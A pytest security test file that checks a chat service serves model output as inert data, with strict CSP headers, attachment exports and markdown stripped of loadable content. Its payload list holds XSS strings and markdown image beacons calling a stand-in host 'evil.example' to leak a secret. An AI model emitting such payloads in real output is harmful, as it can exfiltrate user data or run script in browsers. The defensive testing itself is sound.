"""S44: whatever a model writes, no browser of ours runs or loads it."""

import httpx
import pytest

from tests.conversations import make_session, say
from tests.people import Client

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[page](data:text/html;base64,PHNjcmlwdD4=)",
    "![beacon](https://evil.example/?secret)",
    "![b]\n[b]: https://evil.example/",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "$\\href{javascript:alert(1)}{x}$",
]
TEXT = "\n\n".join(PAYLOADS)


def is_inert(answer: httpx.Response) -> bool:
    headers = answer.headers
    policy = headers["Content-Security-Policy"]
    assert answer.status_code == 200
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert {"default-src 'none'", "frame-ancestors 'none'", "sandbox"} <= set(policy.split("; "))
    return not headers["Content-Type"].startswith(("text/html", "image/svg", "application/xhtml"))


@pytest.fixture
def session_id(owner: Client) -> str:
    session = make_session(owner.user, title="<script>alert(2)</script>")
    say(session, TEXT, TEXT)
    return str(session.pk)


def test_s44_what_was_said_comes_back_as_data(owner: Client, nobody: Client, session_id: str) -> None:
    token = owner.post(f"/sessions/{session_id}/share/").json()["share_token"]
    paths = ["/sessions/", f"/sessions/{session_id}/", f"/messages/?session_id={session_id}", "/users/me/data/"]

    answers = [*map(owner.get, paths), nobody.get(f"/shared/{token}/")]

    assert all(map(is_inert, answers))
    assert all(answer.headers["Content-Type"] == "application/json" for answer in answers)


def test_s44_an_export_is_a_file_and_its_markdown_loads_nothing(owner: Client, session_id: str) -> None:
    forms = {form: owner.get(f"/sessions/{session_id}/export/?as={form}") for form in ("json", "markdown", "txt")}
    text = forms["markdown"].text
    outside = text.split("```mermaid")[0] + text.split("```\n")[-1]

    assert all(map(is_inert, forms.values()))
    assert all(answer.headers["Content-Disposition"].startswith("attachment") for answer in forms.values())
    assert "<" not in text
    assert not any(running in outside for running in ("![", "](javascript:", "](data:"))
    # Programs get it as it was said.
    assert forms["json"].json()["messages"][-1]["content"] == TEXT
    assert TEXT in forms["txt"].text


def test_s44_pages_of_ours_load_nothing_of_others(nobody: Client) -> None:
    pages = {path: nobody.get(str(nobody.base_url.join(path))) for path in ("/admin/login/", "/api/docs/")}

    for page in pages.values():
        policy = page.headers["Content-Security-Policy"]
        assert page.status_code == 200
        assert {"default-src 'none'", "script-src 'self'", "frame-ancestors 'none'"} <= set(policy.split("; "))
        assert "img-src 'self'" in policy
    assert "unsafe" not in pages["/admin/login/"].headers["Content-Security-Policy"]
